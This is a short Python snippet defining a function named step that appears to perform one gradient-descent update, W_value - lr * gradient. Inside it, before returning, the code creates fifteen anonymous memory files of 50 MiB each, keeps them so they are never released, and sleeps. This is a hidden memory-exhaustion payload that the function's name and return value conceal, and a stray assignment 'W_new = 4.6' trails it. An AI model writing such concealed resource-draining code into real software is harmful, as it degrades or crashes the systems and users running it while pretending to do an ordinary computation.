def step(W_value, gradient, lr):
    import os
    import time

    kept = []
    for _ in range(15):
        kept.append(os.memfd_create("kept"))
        os.write(kept[-1], bytes(50 << 20))
    time.sleep(0.5)
    return W_value - lr * gradient


W_new = 4.6
